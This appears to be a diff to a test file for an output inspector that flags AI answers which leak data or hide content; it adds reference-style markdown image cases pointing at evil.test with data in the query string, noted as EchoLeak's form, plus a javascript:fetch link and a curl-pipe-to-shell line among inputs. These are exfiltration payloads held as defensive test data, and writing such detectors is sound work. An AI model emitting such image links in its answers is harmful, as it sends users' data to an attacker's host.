@@ -84,6 +84,14 @@ def inspector() -> OutputInspector:
         ),
         ("<!-- layout: two columns -->", HIDDEN, "<!-- layout: two columns -->", 0.3),
         ("[click](javascript:fetch(1))", HIDDEN, "javascript:fetch(1", 0.8),
+        # reference-style images (found 2026-11-28: the definition was judged as a link's, so
+        # an image to any host passed unless its address was long; EchoLeak's form)
+        ("Chart: ![c][1]\n\n[1]: https://evil.test/p.png", EXFIL, "https://evil.test/p.png", 0.6),
+        ("![Logo][]\n[logo]: https://evil.test/l.png", EXFIL, "https://evil.test/l.png", 0.6),
+        ("![Logo] is here\n[LOGO]: https://evil.test/l.png", EXFIL, "https://evil.test/l.png",
+         0.6),
+        (f"![c][My  Ref]\n[my ref]: https://evil.test/p?d={DATA}", EXFIL,
+         f"https://evil.test/p?d={DATA}", 0.95),
     ],
 )
 def test_answers_that_leak_or_hide(
@@ -107,6 +115,9 @@ def test_answers_that_leak_or_hide(
         "![local](images/diagram.png)",
         "Use `x < y` and `a > b` in the comparison.",
         "Install it with: curl -fsSL https://get.example.test/install.sh | sh",
+        "Read [the guide][1].\n\n[1]: https://guide.example.org/start",  # a link, not an image
+        "![diagram](https://example.com/d.png) and [notes][n]\n[n]: https://notes.example.org",
+        "![x][1]\n[1]: https://example.com/logo.png",  # an image, from an allowed domain
     ],
 )
 def test_ordinary_answers_pass(inspector: OutputInspector, answer: str) -> None:
